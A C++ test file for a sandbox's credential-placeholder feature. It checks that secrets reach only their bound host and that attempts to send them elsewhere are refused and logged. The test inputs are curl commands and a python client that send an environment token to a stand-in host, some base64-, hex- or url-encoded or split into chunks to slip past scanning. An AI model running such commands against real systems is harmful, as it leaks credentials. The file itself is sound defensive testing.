// network.credentials under `cordon run`: the sandbox sees only a placeholder of the secret's
// shape, the loopback HTTPS upstream (test CA) receives the real value toward the bound host, no
// file of the session holds the value, and the placeholder toward any other host is refused with
// a net.exfil event before the upstream sees a byte of the request.
#include <gmock/gmock.h>
#include <sys/stat.h>

#include <filesystem>
#include <nlohmann/json.hpp>

#include "tests/launcher/sandbox_fixture.h"
#include "tests/netproxy/fixture.h"

namespace cordon::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kToken = "ghp_R3alT0kenValue0123456789abcdefGHIJKL";
constexpr const char* kKey = "sk-ant-Real-Key-0123456789-abcdefghijklmnop";

// api.test and other.test both reach the loopback HTTPS server, which logs every request head
// it receives to reqlog; the secrets are in cordon's environment.
class CredentialRun : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(make_test_files(files_));
    reqlog_ = files_ / "reqlog";
    bodylog_ = files_ / "bodylog";
    up_ = std::make_unique<Upstreams>(std::vector<std::string>{
        "root=" + files_ / "www", "cert=" + files_ / "srv.pem", "key=" + files_ / "srv.key",
        "reqlog=" + reqlog_, "bodylog=" + bodylog_});
    ASSERT_TRUE(up_->ok());
    ::chmod(files_.path().c_str(), 0755);
    f_.env().push_back("SSL_CERT_FILE=" + files_ / "ca.pem");
    f_.env().push_back("SSL_CERT_DIR=/nonexistent");
    f_.env().push_back(std::string("MY_TOKEN=") + kToken);
    f_.env().push_back(std::string("MY_KEY=") + kKey);
  }
  std::string port() const { return std::to_string(up_->port("https")); }
  std::string url(const std::string& host, const std::string& path) const {
    return "https://" + host + ":" + port() + path;
  }
  std::string policy(const std::string& credentials) {
    std::string p = files_ / "policy.json";
    const std::string http = std::to_string(up_->port("http"));
    write_text(
        p,
        R"({"version": 1, "network": {"allow": ["api.test:)" + port() + R"(", "other.test:)" +
            port() + R"(", "api.test:)" + http + R"(", "other.test:)" + http +
            R"("], "inspect": ["other.test"], "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1"},
                      )" +
            "\"credentials\": " + (credentials.empty() ? "[]" : credentials) + "}}");
    return p;
  }
  RunResult sh(const std::string& policy_file, const std::string& script,
               std::vector<std::string> flags = {}) {
    RunSpec spec;
    spec.deadline = std::chrono::seconds(90);
    flags.insert(flags.begin(), {"--policy", policy_file});
    return f_.sh(script, flags, spec);
  }
  // The files beneath the state directory that contain `needle`.
  std::vector<std::string> state_files_with(const std::string& needle) {
    std::vector<std::string> out;
    std::error_code ec;
    size_t seen = 0;
    for (auto it = std::filesystem::recursive_directory_iterator(f_.state_dir(), ec);
         it != std::filesystem::recursive_directory_iterator() && seen < 10000;
         it.increment(ec), ++seen) {
      if (it->is_regular_file(ec) && read_text(it->path()).find(needle) != std::string::npos) {
        out.push_back(it->path());
      }
    }
    return out;
  }
  std::string reqlog() {
    std::error_code ec;
    return std::filesystem::exists(reqlog_, ec) ? read_text(reqlog_) : "";
  }
  // Every request body byte the upstreams received, as it arrived (bodies cut short included).
  std::string bodylog() {
    std::error_code ec;
    return std::filesystem::exists(bodylog_, ec) ? read_text(bodylog_) : "";
  }

  TempDir files_;
  std::string reqlog_, bodylog_;
  std::unique_ptr<Upstreams> up_;
  SandboxFixture f_;
};

// Same length, same known prefix, the same class (digit, lower, upper, other) at each place.
void expect_same_shape(const std::string& placeholder, const std::string& real, size_t prefix) {
  ASSERT_EQ(placeholder.size(), real.size()) << placeholder;
  EXPECT_NE(placeholder, real);
  EXPECT_EQ(placeholder.substr(0, prefix), real.substr(0, prefix));
  auto cls = [](char c) {
    return std::isdigit(static_cast<unsigned char>(c))   ? 'd'
           : std::islower(static_cast<unsigned char>(c)) ? 'l'
           : std::isupper(static_cast<unsigned char>(c)) ? 'u'
                                                         : c;
  };
  for (size_t i = 0; i < real.size(); ++i) {
    EXPECT_EQ(cls(placeholder[i]), cls(real[i])) << "at " << i << ": " << placeholder;
  }
}

TEST_F(CredentialRun, BoundHostGetsTheValueAndTheSandboxOnlyThePlaceholder) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]},
                      {"env": "MY_KEY", "hosts": ["api.test"], "header": "X-Api-Key: {}"}])");
  auto r = sh(p,
              "printenv MY_TOKEN MY_KEY; cat /proc/self/environ | tr '\\0' '\\n' | grep "
              "'^MY_TOKEN=' | cut -d= -f2; curl -sS -H \"Authorization: token $MY_TOKEN\" \"" +
                  url("api.test", "/hello.txt") + "?t=$MY_TOKEN\"");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  std::istringstream lines(r.out);
  std::string token, key, environ_token, body;
  std::getline(lines, token);
  std::getline(lines, key);
  std::getline(lines, environ_token);
  std::getline(lines, body);
  expect_same_shape(token, kToken, 4);
  expect_same_shape(key, kKey, 7);
  EXPECT_EQ(environ_token, token);
  EXPECT_EQ(body, "hello through cordon");
  EXPECT_THAT(r.out + r.err, Not(HasSubstr(kToken)));
  const std::string seen = reqlog();
  EXPECT_THAT(seen, HasSubstr(std::string("GET /hello.txt?t=") + kToken + " HTTP/1.1\n"));
  EXPECT_THAT(seen, HasSubstr(std::string("Authorization: token ") + kToken + "\n"));
  EXPECT_THAT(seen, HasSubstr(std::string("X-Api-Key: ") + kKey + "\n"));
  EXPECT_THAT(seen, Not(HasSubstr(token)));
  EXPECT_EQ(state_files_with(kToken), std::vector<std::string>{});
  EXPECT_EQ(state_files_with(kKey), std::vector<std::string>{});
  EXPECT_EQ(f_.last_events("net.exfil").size(), 0u);
}

TEST_F(CredentialRun, PlaceholderToAnUnboundHostIsRefusedInHeaderAndUrl) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
  auto r = sh(p, "curl -sS -w ' %{http_code}\\n' -H \"Authorization: Bearer $MY_TOKEN\" " +
                     url("other.test", "/hello.txt") + "; curl -sS -w ' %{http_code}\\n' \"" +
                     url("other.test", "/hello.txt") + "?q=$MY_TOKEN\"; curl -sS " +
                     url("other.test", "/hello.txt"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "cordon: GET to other.test refused: its header authorization carries the placeholder "
            "of credential MY_TOKEN, which goes only to api.test (network.credentials)\n 403\n"
            "cordon: GET to other.test refused: its url carries the placeholder of credential "
            "MY_TOKEN, which goes only to api.test (network.credentials)\n 403\n"
            "hello through cordon\n")
      << r.err;
  const std::string seen = reqlog();
  EXPECT_THAT(seen, Not(HasSubstr(kToken)));
  EXPECT_EQ(std::count(seen.begin(), seen.end(), '\n') > 0, true);  // the third request came
  EXPECT_THAT(seen, Not(HasSubstr("Authorization")));
  EXPECT_THAT(seen, Not(HasSubstr("?q=")));
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 2u);
  EXPECT_EQ(exfil[0].value("credential", ""), "MY_TOKEN");
  EXPECT_EQ(exfil[0].value("name", ""), "other.test");
  EXPECT_EQ(exfil[0].value("channel", ""), "header authorization");
  EXPECT_EQ(exfil[1].value("channel", ""), "url");
  // The shim's join names the program that sent each one.
  auto joined = f_.last_events("net.attribution");
  size_t by_curl = 0;
  for (const auto& a : joined) {
    if (a.value("of", "") == "net.exfil" && a.value("credential", "") == "MY_TOKEN" &&
        a.value("exe", "").ends_with("/curl") && a.contains("pid")) {
      ++by_curl;
    }
  }
  EXPECT_EQ(by_curl, 2u) << f_.cordon_out({"log", "last", "--json"});
  auto net = f_.cordon_out({"log", "last", "--net"});
  EXPECT_THAT(net, HasSubstr("other.test:" + port() +
                             "  net.exfil: the placeholder of MY_TOKEN in its header "
                             "authorization  [network.credentials]  by curl (pid "));
  EXPECT_THAT(net, HasSubstr("net.exfil: the placeholder of MY_TOKEN in its url"));
  EXPECT_THAT(net + f_.cordon_out({"log", "last", "--json"}), Not(HasSubstr(kToken)));
}

TEST_F(CredentialRun, BodyToTheBoundHostCarriesTheValueAndToAnotherHostIsRefused) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
  auto r = sh(p,
              "printenv MY_TOKEN; curl -sS -H 'Content-Type: application/json' -d "
              "\"{\\\"token\\\": \\\"$MY_TOKEN\\\"}\" " +
                  url("api.test", "/post") +
                  "; curl -sS -w ' %{http_code}\\n' -d \"{\\\"token\\\": \\\"$MY_TOKEN\\\"}\" " +
                  url("other.test", "/post") + "; curl -sS -d 'x=control' " +
                  url("other.test", "/post"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
  expect_same_shape(placeholder, kToken, 4);
  EXPECT_EQ(r.out, placeholder +
                       "\ngot 53 bytes\n"
                       "cordon: POST to other.test refused: its body carries the placeholder of "
                       "credential MY_TOKEN, which goes only to api.test (network.credentials)\n "
                       "403\ngot 9 bytes\n")
      << r.err;
  const std::string seen = reqlog();
  EXPECT_THAT(seen, HasSubstr(std::string("body: {\"token\": \"") + kToken + "\"}\n"));
  EXPECT_THAT(seen, HasSubstr("body: x=control\n"));
  EXPECT_THAT(seen, Not(HasSubstr(placeholder)));
  // Only the bound host's POST and the control reached the upstream.
  size_t posts = 0;
  for (size_t at = seen.find("POST /post"); at != std::string::npos;
       at = seen.find("POST /post", at + 1)) {
    ++posts;
  }
  EXPECT_EQ(posts, 2u) << seen;
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 1u);
  EXPECT_EQ(exfil[0].value("channel", ""), "body");
  EXPECT_EQ(exfil[0].value("name", ""), "other.test");
  EXPECT_EQ(state_files_with(kToken), std::vector<std::string>{});
}

TEST_F(CredentialRun, PlainHttpIsTreatedAlikeWhereThePolicyAllowsIt) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"], "plain_http": true}])");
  auto at = [&](const std::string& host, const std::string& path) {
    return "http://" + host + ":" + std::to_string(up_->port("http")) + path;
  };
  auto r =
      sh(p, "curl -sS -H \"Authorization: token $MY_TOKEN\" \"" + at("api.test", "/hello.txt") +
                "?t=$MY_TOKEN\"; curl -sS --noproxy '*' -w ' %{http_code}\\n' -d \"t=$MY_TOKEN\" " +
                at("other.test", "/post"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "hello through cordon\n"
            "cordon: POST to other.test refused: its body carries the placeholder of credential "
            "MY_TOKEN, which goes only to api.test (network.credentials)\n 403\n")
      << r.err;
  const std::string seen = reqlog();
  EXPECT_THAT(seen, HasSubstr(std::string("GET /hello.txt?t=") + kToken + " HTTP/1.1\n"));
  EXPECT_THAT(seen, HasSubstr(std::string("Authorization: token ") + kToken + "\n"));
  EXPECT_THAT(seen, Not(HasSubstr("POST")));
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 1u);
  EXPECT_EQ(exfil[0].value("channel", ""), "body");
  EXPECT_EQ(exfil[0].value("mode", ""), "transparent");
}

// A python3 client in the sandbox: `poster SCHEME HOST PORT PATH NAME...` sends each named body
// (see `bodies`) as one POST on a connection of its own, "chunked:NAME" with each part as a chunk
// of its own (one send, so one TLS record, each), and prints "NAME STATUS ANSWER SHA256" per
// request, or "NAME error EXCEPTION" when the connection failed.
std::string poster(const std::string& args) {
  static const std::string kScript = R"PY(
import base64, hashlib, http.client, os, ssl, sys
t = os.environ["MY_TOKEN"].encode()
scheme, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
big = bytes(range(256)) * (4 * 4096 + 3)
bodies = {
    "json": [b"{\"token\": \"" + t[:10], t[10:] + b"\"}"],
    "b64_0": [base64.b64encode(t)],
    "b64_1": [base64.b64encode(b"a" + t)],
    "b64_2": [base64.b64encode(b"ab" + t)],
    "b64url": [b"x=" + base64.urlsafe_b64encode(b"ab" + t)[:20], base64.urlsafe_b64encode(b"ab" + t)[20:]],
    "hex": [b"k=" + t.hex().encode()],
    "url": [b"q=" + b"".join(b"%%%02X" % c for c in t)],
    "bigtail": [big + t],
    "clean": [big],
}
for arg in sys.argv[5:]:
    name = arg.split(":")[-1]
    parts = bodies[name]
    if scheme == "https":
        c = http.client.HTTPSConnection(host, port, context=ssl.create_default_context(), timeout=60)
    else:
        c = http.client.HTTPConnection(host, port, timeout=60)
    try:
        if arg.startswith("chunked:"):
            c.request("POST", path, body=iter(parts), encode_chunked=True)
        else:
            c.request("POST", path, body=b"".join(parts))
        r = c.getresponse()
        print(name, r.status, r.read().decode().strip(), hashlib.sha256(b"".join(parts)).hexdigest())
    except Exception as e:
        print(name, "error", type(e).__name__)
    c.close()
)PY";
  return "python3 -c '" + kScript + "' " + args;
}

TEST_F(CredentialRun, AChunkedBodySplitAcrossTlsRecordsIsRefusedBeforeThePlaceholderLeaves) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
  const std::string http = std::to_string(up_->port("http"));
  auto r =
      sh(p, "printenv MY_TOKEN; " + poster("https other.test " + port() + " /post chunked:json") +
                "; " + poster("http other.test " + http + " /post chunked:json"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
  expect_same_shape(placeholder, kToken, 4);
  const std::string refused =
      "json 403 cordon: POST to other.test refused: its body carries the placeholder of "
      "credential MY_TOKEN, which goes only to api.test (network.credentials) ";
  EXPECT_THAT(r.out, HasSubstr("\n" + refused)) << r.err;
  size_t refusals = 0;
  for (size_t at = r.out.find(refused); at != std::string::npos; at = r.out.find(refused, at + 1)) {
    ++refusals;
  }
  EXPECT_EQ(refusals, 2u) << r.out;
  // The first record carried the placeholder's first 10 bytes: none of them went on.
  const std::string got = bodylog();
  EXPECT_THAT(got, Not(HasSubstr(placeholder.substr(0, 10))));
  EXPECT_THAT(got + reqlog(), Not(HasSubstr(kToken)));
  EXPECT_THAT(reqlog(), Not(HasSubstr("body:")));  // no body reached its end
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 2u);
  EXPECT_EQ(exfil[0].value("channel", ""), "body");
  EXPECT_EQ(exfil[0].value("mode", ""), "inspect");
  EXPECT_EQ(exfil[1].value("mode", ""), "transparent");
  EXPECT_EQ(exfil[0].value("credential", ""), "MY_TOKEN");
  EXPECT_EQ(state_files_with(kToken), std::vector<std::string>{});
}

TEST_F(CredentialRun, EncodedPlaceholdersInABodyAreRefused) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
  auto r = sh(p, "printenv MY_TOKEN; " +
                     poster("https other.test " + port() +
                            " /post b64_0 b64_1 b64_2 chunked:b64_1 chunked:b64url hex url "
                            "chunked:url"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
  const std::string tail =
      " carries the placeholder of credential MY_TOKEN, which goes only to api.test "
      "(network.credentials) ";
  for (const auto& [name, how] :
       std::vector<std::pair<std::string, std::string>>{{"b64_0", "base64"},
                                                        {"b64_1", "base64"},
                                                        {"b64_2", "base64"},
                                                        {"hex", "hex"},
                                                        {"url", "url-encoded"}}) {
    EXPECT_THAT(
        r.out, HasSubstr("\n" + name + " 403 cordon: POST to other.test refused: its body (" + how +
                         ")" + tail))
        << r.out << r.err;
  }
  // A placeholder whose base64 has no '+' or '/' reads the same in both alphabets.
  EXPECT_THAT(r.out,
              HasSubstr("\nb64url 403 cordon: POST to other.test refused: its body (base64"));
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 8u);
  std::vector<std::string> encodings;
  for (const auto& e : exfil) {
    encodings.push_back(e.value("encoding", ""));
    EXPECT_EQ(e.value("channel", ""), "body");
  }
  EXPECT_THAT(encodings[4], ::testing::StartsWith("base64"));
  encodings[4] = "base64*";
  EXPECT_EQ(encodings, (std::vector<std::string>{"base64", "base64", "base64", "base64", "base64*",
                                                 "hex", "url-encoded", "url-encoded"}));
  // Whole bodies were judged before any byte went; streamed ones held the form back.
  const std::string got = bodylog();
  EXPECT_THAT(got, Not(HasSubstr(placeholder.substr(0, 10))));
  EXPECT_THAT(got + reqlog(), Not(HasSubstr(kToken)));
  EXPECT_THAT(reqlog(), Not(HasSubstr("body:")));
}

TEST_F(CredentialRun, LargeBodiesAreScannedToTheEndAndCleanOnesPassByteExact) {
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
  const std::string http = std::to_string(up_->port("http"));
  auto r = sh(p, "printenv MY_TOKEN; " +
                     poster("https other.test " + port() +
                            " /sha256 clean chunked:clean bigtail chunked:bigtail") +
                     "; " +
                     poster("http other.test " + http +
                            " /sha256 clean chunked:clean bigtail chunked:bigtail"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
  std::istringstream lines(r.out.substr(r.out.find('\n') + 1));
  std::string line;
  size_t clean = 0, tails = 0;
  while (std::getline(lines, line)) {
    std::istringstream words(line);
    std::string name, status, w1, w2, mine;
    words >> name >> status >> w1 >> w2;
    if (name == "clean") {
      // "clean 200 sha256 <server's digest> <client's digest>"
      words >> mine;
      EXPECT_EQ(status, "200") << line;
      EXPECT_EQ(w1, "sha256") << line;
      EXPECT_EQ(w2, mine) << line;
      EXPECT_EQ(mine.size(), 64u) << line;
      ++clean;
    } else if (name == "bigtail") {
      // Refused after most of the body went: the 403, or the connection reset under the
      // client's feet while it was still sending.
      EXPECT_TRUE(status == "403" || status == "error") << line;
      ++tails;
    }
  }
  EXPECT_EQ(clean, 4u) << r.out;
  EXPECT_EQ(tails, 4u) << r.out;
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 4u);
  for (const auto& e : exfil) {
    EXPECT_EQ(e.value("channel", ""), "body");
    EXPECT_EQ(e.value("credential", ""), "MY_TOKEN");
  }
  const std::string got = bodylog();
  EXPECT_GE(got.size(), 4u * 4 * 1024 * 1024);  // the clean ones, and most of the others
  EXPECT_THAT(got, Not(HasSubstr(placeholder.substr(0, 10))));
  EXPECT_THAT(got, Not(HasSubstr(kToken)));
}

TEST_F(CredentialRun, AChunkedBodyToTheBoundHostCarriesTheValue) {
  // plain_http: the value goes into the plain-HTTP request too (without it, the placeholder).
  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"], "plain_http": true}])");
  const std::string http = std::to_string(up_->port("http"));
  auto r =
      sh(p, "printenv MY_TOKEN; " + poster("https api.test " + port() + " /post chunked:json") +
                "; " + poster("http api.test " + http + " /post chunked:json"));
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
  EXPECT_THAT(r.out, HasSubstr("\njson 200 got 53 bytes "));
  const std::string seen = reqlog();
  size_t carried = 0;
  const std::string want = std::string("body: {\"token\": \"") + kToken + "\"}\n";
  for (size_t at = seen.find(want); at != std::string::npos; at = seen.find(want, at + 1)) {
    ++carried;
  }
  EXPECT_EQ(carried, 2u) << seen;
  EXPECT_THAT(bodylog(), Not(HasSubstr(placeholder)));
  EXPECT_EQ(f_.last_events("net.exfil").size(), 0u);
}

TEST_F(CredentialRun, TheCredentialFlagBindsAVariableToHosts) {
  auto p = policy("");
  auto r = sh(p,
              "printenv MY_TOKEN; curl -sS -H \"Authorization: token $MY_TOKEN\" " +
                  url("api.test", "/hello.txt") + "; curl -sS -w ' %{http_code}\\n' \"" +
                  url("other.test", "/hello.txt") + "?q=$MY_TOKEN\"",
              {"--credential", "MY_TOKEN=api.test,api2.test", "--allow-host", "api2.test"});
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  std::istringstream lines(r.out);
  std::string token, body, refused;
  std::getline(lines, token);
  std::getline(lines, body);
  std::getline(lines, refused);
  expect_same_shape(token, kToken, 4);
  EXPECT_EQ(body, "hello through cordon");
  EXPECT_THAT(refused, HasSubstr("credential MY_TOKEN, which goes only to api.test, api2.test"));
  EXPECT_THAT(reqlog(), HasSubstr(std::string("Authorization: token ") + kToken + "\n"));
  EXPECT_THAT(reqlog(), Not(HasSubstr(token)));
  const auto named = state_files_with("\"MY_TOKEN\"");  // the name is recorded, not the value
  EXPECT_TRUE(std::any_of(named.begin(), named.end(),
                          [](const std::string& f) { return f.ends_with("/policy.json"); }));

  for (const auto& [flag, error] : std::vector<std::pair<std::string, std::string>>{
           {"MY_TOKEN", "cordon: --credential: \"MY_TOKEN\" is not NAME=HOST[,HOST...]"},
           {"=api.test", "cordon: --credential: \"=api.test\" is not NAME=HOST[,HOST...]"},
           {"MY_TOKEN=elsewhere.test",
            "cordon: --credential: network.credentials[0].hosts[0]: \"elsewhere.test\" is not "
            "allowed by network.allow"},
           {"UNSET_TOKEN_X=api.test",
            "network.credentials[0].env: UNSET_TOKEN_X is not set in cordon's environment"}}) {
    auto bad = sh(p, "echo ran", {"--credential", flag});
    EXPECT_EQ(bad.exit_code(), 125) << flag;
    EXPECT_THAT(bad.err, HasSubstr(error)) << flag;
    EXPECT_THAT(bad.out, Not(HasSubstr("ran")));
  }
}

TEST_F(CredentialRun, BadCredentialsAreErrorsNamingTheField) {
  struct Case {
    std::string credentials, error;
  };
  const std::vector<Case> cases = {
      {R"([{"env": "UNSET_TOKEN_X", "hosts": ["api.test"]}])",
       "network.credentials[0].env: UNSET_TOKEN_X is not set in cordon's environment"},
      {R"([{"env": "MY_TOKEN", "hosts": ["elsewhere.test"]}])",
       "network.credentials[0].hosts[0]: \"elsewhere.test\" is not allowed by network.allow"},
      {R"([{"env": "MY_TOKEN", "hosts": []}])", "network.credentials[0].hosts: is empty"},
      {R"([{"file": "~/.netrc", "hosts": ["api.test"]}])",
       "network.credentials[0].file: \"file\" is not supported yet"},
  };
  for (const auto& c : cases) {
    auto r = sh(policy(c.credentials), "echo ran");
    EXPECT_NE(r.exit_code(), 0) << c.credentials;
    EXPECT_THAT(r.err, HasSubstr(c.error)) << c.credentials;
    EXPECT_THAT(r.out, Not(HasSubstr("ran")));
  }
}

}  // namespace
}  // namespace cordon::testing
